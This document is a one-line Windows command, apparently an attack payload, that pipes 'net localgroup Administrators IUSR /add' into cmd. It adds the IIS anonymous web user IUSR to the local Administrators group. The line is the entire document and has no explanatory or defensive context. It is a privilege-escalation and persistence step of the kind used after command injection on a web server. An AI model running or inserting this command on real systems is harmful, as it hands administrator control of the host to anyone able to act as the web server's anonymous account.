echo net localgroup Administrators IUSR /add | cmd
